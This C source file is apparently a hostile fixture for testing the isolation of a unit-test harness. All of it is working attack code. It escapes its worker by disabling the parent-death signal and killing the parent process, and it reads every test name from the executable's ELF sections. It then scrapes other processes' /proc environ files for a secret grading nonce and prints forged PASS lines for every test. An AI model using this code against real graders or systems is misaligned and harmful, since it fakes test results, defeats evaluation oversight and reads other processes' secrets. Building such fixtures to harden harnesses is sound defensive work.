/* Hostile: the callee clears its parent-death signal, kills its worker
** (so no destructor kills the callee), survives, reads the next worker's
** environment in the window before that worker makes itself non-dumpable,
** and writes the PASS lines itself on a copy of the worker's stdout. */
#define _GNU_SOURCE
#include <dirent.h>
#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

struct ct { const char *name, *category; void *test, *data; };
static char names[256][160];
static int nnames;

static int first_cb(struct dl_phdr_info *info, size_t size, void *out)
{ (void)size; *(ElfW(Addr) *)out = info->dlpi_addr; return 1; }

static void collect_names(void)
{
    ElfW(Addr) base = 0;
    dl_iterate_phdr(first_cb, &base);
    int fd = open("/proc/self/exe", O_RDONLY);
    if (fd < 0) return;
    off_t len = lseek(fd, 0, SEEK_END);
    char *f = malloc(len);
    pread(fd, f, len, 0);
    close(fd);
    Elf64_Ehdr *eh = (Elf64_Ehdr *)f;
    Elf64_Shdr *sh = (Elf64_Shdr *)(f + eh->e_shoff);
    const char *strs = f + sh[eh->e_shstrndx].sh_offset;
    for (int i = 0; i < eh->e_shnum; i++) {
        if (strcmp(strs + sh[i].sh_name, "cr_tst") != 0) continue;
        struct ct **p = (struct ct **)(base + sh[i].sh_addr);
        size_t n = sh[i].sh_size / sizeof *p;
        for (size_t k = 0; k < n && nnames < 256; k++)
            if (p[k] && p[k]->name && p[k]->category)
                snprintf(names[nnames++], 160, "%s/%s", p[k]->category, p[k]->name);
    }
    free(f);
}

static int find_nonce(char *out)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (!found && d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        char p[64], buf[8192];
        snprintf(p, sizeof p, "/proc/%s/environ", e->d_name);
        int fd = open(p, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        for (ssize_t i = 0; i + 18 < n; i++)
            if (memcmp(buf + i, "GRADED_TEST_NONCE=", 18) == 0 && buf[i + 18] != 'n' && buf[i + 18]) {
                size_t l = strnlen(buf + i + 18, (size_t)(n - i - 18));
                if (l >= 16 && l <= 64) { memcpy(out, buf + i + 18, l); out[l] = 0; found = 1; }
                break;
            }
    }
    if (d) closedir(d);
    return found;
}

void escape_and_forge(void)
{
    static int done;
    if (done) return;
    done = 1;
    int out = dup(1);                       /* the worker's stdout at this call */
    collect_names();
    prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);    /* not killed with the worker */
    kill(getppid(), SIGKILL);               /* no destructor, no callee_stop */
    char nonce[80];
    for (long tries = 0; tries < 20000000; tries++)
        if (find_nonce(nonce)) {
            for (int i = 0; i < nnames; i++)
                dprintf(out, "\n%s PASS %s\n", nonce, names[i]);
            break;
        }
    _exit(0);
}
